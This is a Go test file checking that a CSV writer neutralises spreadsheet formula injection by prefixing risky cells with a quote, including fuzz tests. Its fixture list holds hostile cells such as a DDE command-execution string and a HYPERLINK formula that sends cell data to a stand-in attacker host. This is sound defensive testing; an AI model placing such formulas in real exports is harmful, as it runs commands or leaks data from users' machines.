package merge

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
)

// hostileCells are cells a spreadsheet would run; plainCells, cells it
// shows as they are.
var hostileCells = []string{
	"=cmd|' /C calc'!A0",
	"@SUM(1)",
	"+1+1",
	"-2+3",
	"=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
	"\t=1+1",
	"\r=1+1",
	" =1+1",
	"\u00a0@SUM(1)", // a no-break space, which some spreadsheets trim
	"\n=1+1",        // a line end, then the formula
	"\t",            // a tab alone
	"-",             // a minus alone
	"=a;=b",         // a separator of its own
}

var plainCells = []string{
	"ada@example.org",
	"Smith, Bob",
	"say \"hi\"",
	"two\nlines",
	"a;=1+1", // one cell, quoted, that begins with a
	"a\t=1+1",
	"",
	"李雷",
	"550 5.1.1 <bob@example.net>: user unknown",
	"x = 1",
	"550 =cmd|' /C calc'!A0", // not at the start
	`\.`,
}

func writeCSV(t *testing.T, raw bool, records [][]string) string {
	t.Helper()
	var b strings.Builder
	w := NewCSVWriter(&b)
	w.Raw = raw
	for _, r := range records {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func readCSV(t *testing.T, text string) [][]string {
	t.Helper()
	rd := csv.NewReader(strings.NewReader(text))
	rd.FieldsPerRecord = -1
	records, err := rd.ReadAll()
	if err != nil {
		t.Fatalf("%v in\n%s", err, text)
	}
	return records
}

// TestCSVWriterNeutralises: every cell a spreadsheet would run comes back
// (through encoding/csv) with a single quote in front, every other cell as
// it was; with Raw, every cell as it was.
func TestCSVWriterNeutralises(t *testing.T) {
	var records [][]string
	for _, c := range hostileCells {
		records = append(records, []string{"first", c, "last"})
	}
	for _, c := range plainCells {
		records = append(records, []string{"first", c, "last"})
	}
	for raw, want := range map[bool]func(i int, cell string) string{
		false: func(i int, cell string) string {
			if i < len(hostileCells) {
				return "'" + cell
			}
			return cell
		},
		true: func(_ int, cell string) string { return cell },
	} {
		got := readCSV(t, writeCSV(t, raw, records))
		if len(got) != len(records) {
			t.Fatalf("raw %v: %d records, want %d", raw, len(got), len(records))
		}
		for i, r := range records {
			if w := []string{"first", want(i, r[1]), "last"}; !slices.Equal(got[i], w) {
				t.Errorf("raw %v: %q came back %q, want %q", raw, r[1], got[i], w)
			}
		}
	}
}

// TestCSVWriterBytes: what the writer writes, byte for byte: plain cells
// as encoding/csv writes them, a semicolon or a tab quoted.
func TestCSVWriterBytes(t *testing.T) {
	tests := []struct {
		record []string
		want   string
	}{
		{[]string{"email", "name", "error"}, "email,name,error\n"},
		{[]string{"a@example.org", "Smith, Bob", `say "hi"`}, "a@example.org,\"Smith, Bob\",\"say \"\"hi\"\"\"\n"},
		{[]string{"=1+1", "@SUM(1)", "x"}, "'=1+1,'@SUM(1),x\n"},
		{[]string{"\t=1", "a;b", " x"}, "\"'\t=1\",\"a;b\",\" x\"\n"},
		{[]string{""}, "\"\"\n"},
		{[]string{"", ""}, ",\n"},
	}
	for _, tt := range tests {
		if got := writeCSV(t, false, [][]string{tt.record}); got != tt.want {
			t.Errorf("%q: got %q, want %q", tt.record, got, tt.want)
		}
	}
	// Without hostile cells or separators, the bytes are encoding/csv's.
	var b strings.Builder
	w := csv.NewWriter(&b)
	records := [][]string{{"email", "name", "city", "error"}, {"a@example.org", "Smith, Bob", "two\nlines", `say "hi"`}, {"b@example.org", "", "李雷", `\.`}}
	w.WriteAll(records)
	if got := writeCSV(t, false, records); got != b.String() {
		t.Errorf("got %q, encoding/csv writes %q", got, b.String())
	}
}

// FuzzCSVWriter: what the writer writes reads back (encoding/csv) as the
// cells given, or, without Raw, each formula with a quote in front; and no
// cell read back is a formula.
func FuzzCSVWriter(f *testing.F) {
	for _, c := range append(append([]string(nil), hostileCells...), plainCells...) {
		f.Add(c, "x")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		// encoding/csv reads CR LF in a quoted cell as LF.
		a, b = lf(a), lf(b)
		record := []string{a, b}
		if got := readCSV(t, writeCSV(t, true, [][]string{record})); len(got) != 1 || !slices.Equal(got[0], record) {
			t.Fatalf("raw: %q came back %q", record, got)
		}
		got := readCSV(t, writeCSV(t, false, [][]string{record}))
		if len(got) != 1 || len(got[0]) != 2 {
			t.Fatalf("%q came back %q", record, got)
		}
		for i, cell := range got[0] {
			if want := record[i]; cell != want && !(cell == "'"+want && isFormula(want)) || isFormula(cell) {
				t.Errorf("%q came back %q", want, cell)
			}
		}
	})
}

// lf makes every CR LF of s an LF, as encoding/csv reads a quoted cell.
func lf(s string) string {
	for strings.Contains(s, "\r\n") {
		s = strings.ReplaceAll(s, "\r\n", "\n")
	}
	return s
}
